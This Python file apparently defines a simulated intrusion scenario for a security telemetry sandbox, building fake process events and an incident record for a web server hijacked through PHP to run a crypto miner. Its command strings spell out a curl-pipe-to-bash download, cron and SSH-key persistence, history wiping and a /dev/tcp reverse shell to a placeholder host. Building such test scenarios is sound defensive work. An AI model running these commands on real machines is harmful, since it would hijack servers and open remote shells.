"""A Linux web server whose shop ran a command for a stranger, and then a miner."""

from __future__ import annotations

from datetime import datetime, timedelta

from sandbox.telemetry.traces import Process
from sandbox.tenant.evidence import device, file, incident, ip, url

from .intrusion import Intrusion

WEB, SOURCE, POOL, BACK = "srv-1.contoso.com", "203.0.113.140", "203.0.113.141", "203.0.113.142"
HIDDEN = "/dev/shm/.x11/kworkerds"
SCRIPT = f"http://{SOURCE}:8000/i.sh"


def miner(end: datetime) -> Intrusion:
    """PHP starts a shell, which fetches a script, which runs a miner, stays by cron and by a key, and calls back."""
    at = end - timedelta(minutes=75)

    def after(**span: int) -> datetime:
        return at + timedelta(**span)

    php = _web("phpfpm", "php-fpm: pool www")
    look = _web("sh", "sh -c id; uname -a; cat /etc/passwd", php)
    shell = _web("sh", f"sh -c (curl -fsSL {SCRIPT} || wget -qO- {SCRIPT}) | bash", php)
    curl = _web("curl", f"curl -fsSL {SCRIPT}", shell)
    script = _web("bash", "bash", shell)
    binary = _web("curl", f"curl -fsSL http://{SOURCE}:8000/k -o {HIDDEN}", script)
    crontab = _web("crontab", "crontab -", script)
    mined = _web(HIDDEN, f"{HIDDEN} -o {POOL}:3333 -u 48edfHu7V9Z -k --tls -B", script)
    back = _web("bash", f"bash -c bash -i >& /dev/tcp/{BACK}/443 0>&1", script)
    # fmt: off
    rows = [
        look.started(at),
        _web("id", "id", look).started(at),
        _web("cat", "cat /etc/passwd", look).started(after(seconds=1)),
        shell.started(after(minutes=2)),
        curl.started(after(minutes=2)),
        curl.connected(after(minutes=2, seconds=1), SOURCE, 8000),
        script.started(after(minutes=2, seconds=1)),
        _web("pkill", "pkill -9 -f xmrig", script).started(after(minutes=2, seconds=2)),
        binary.started(after(minutes=2, seconds=3)),
        binary.connected(after(minutes=2, seconds=3), SOURCE, 8000),
        binary.wrote(after(minutes=2, seconds=4), HIDDEN),
        _web("chmod", f"chmod +x {HIDDEN}", script).started(after(minutes=2, seconds=5)),
        mined.started(after(minutes=2, seconds=6)),
        *(mined.connected(after(minutes=n), POOL, 3333, "pool.rogue.example") for n in (3, 23, 43, 63)),
        crontab.started(after(minutes=2, seconds=8)),
        crontab.wrote(after(minutes=2, seconds=8), "/var/spool/cron/crontabs/www-data"),
        script.wrote(after(minutes=2, seconds=9), "/var/www/.ssh/authorized_keys"),
        _web("sh", "sh -c unset HISTFILE; export HISTSIZE=0; rm -f /var/www/.bash_history", script).started(after(minutes=2, seconds=10)),
        script.did(after(minutes=2, seconds=2), "ScriptContent", {"ScriptContent": f"pkill -9 -f xmrig\nmkdir -p /dev/shm/.x11\ncurl -fsSL http://{SOURCE}:8000/k -o {HIDDEN}\n(crontab -l; echo '*/10 * * * * {HIDDEN}') | crontab -\n"}),
        back.started(after(minutes=9)),
        back.connected(after(minutes=9, seconds=1), BACK, 443),
    ]
    # fmt: on
    return Intrusion(
        "miner",
        incident(
            4110,
            "Suspicious processes of php-fpm on srv-1",
            "medium",
            "Execution",
            at,
            after(minutes=9),
            device(WEB),
            url(SCRIPT, "malicious"),
            ip(POOL, "suspicious"),
            file(WEB, "/dev/shm/.x11/", "kworkerds", str(rows[10][1]["SHA1"]), "malicious"),
        ),
        rows,
    )  # fmt: skip


def _web(program: str, command: str, parent: Process | None = None) -> Process:
    return Process(WEB, "linux", program, command, "www-data", parent)
